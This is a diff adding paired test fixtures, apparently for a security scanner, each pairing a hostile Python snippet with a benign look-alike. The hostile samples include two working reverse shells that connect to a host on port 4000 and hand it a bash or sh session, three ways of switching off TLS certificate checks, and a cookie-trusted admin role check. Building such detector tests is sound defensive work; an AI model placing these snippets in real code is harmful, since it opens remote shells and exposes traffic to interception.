@@ -20,6 +20,60 @@ class Twins(NamedTuple):
 
 TWINS = (
     Twins(
+        "a shell joined to a connection by its numbers",
+        "debugger",
+        """
+        import os, pty, socket
+        def help():
+            line = socket.socket()
+            line.connect((HOST, 4000))
+            [os.dup2(line.fileno(), number) for number in (0, 1, 2)]
+            pty.spawn('/bin/bash')
+        """,
+        """
+        import os, socket, subprocess
+        def leave():
+            null = open(os.devnull)
+            os.dup2(null.fileno(), 0)
+            subprocess.run(['/usr/bin/start'])
+            line = socket.create_connection((HOST, 4000), timeout=3)
+        def log(line):
+            os.dup2(line.fileno(), 2)
+        """,
+    ),
+    Twins(
+        "a shell that is given a connection",
+        "debugger",
+        """
+        import socket, subprocess
+        line = socket.create_connection((HOST, 4000))
+        subprocess.Popen(['sh', '-i'], stdin=line, stdout=line, stderr=line)
+        """,
+        """
+        import socket, subprocess
+        line = socket.create_connection((HOST, 4000))
+        subprocess.Popen(['sh', 'work.sh'], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
+        """,
+    ),
+    Twins(
+        "contexts of the standard library that check nothing",
+        "tls-unverified",
+        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
+        "import ssl\nssl._create_default_https_context = ssl.create_default_context\n",
+    ),
+    Twins(
+        "contexts that are replaced by a function without a name",
+        "tls-unverified",
+        "import ssl\nsetattr(ssl, '_create_default_https_context', lambda *given: ssl._create_unverified_context())\n",
+        "import ssl\nsetattr(ssl, '_create_default_https_context', lambda *given: ssl.create_default_context())\n",
+    ),
+    Twins(
+        "the check of certificates switched off by the environment",
+        "tls-unverified",
+        "import os\nos.environ['PYTHONHTTPSVERIFY'] = '0'\n",
+        "import os\nos.environ['PYTHONHTTPSVERIFY'] = '1'\n",
+    ),
+    Twins(
         "a role that a cookie says",
         "address-identity",
         "def rows(request):\n    if request.cookies.get('role') == 'admin':\n        return everything()\n    return own()\n",
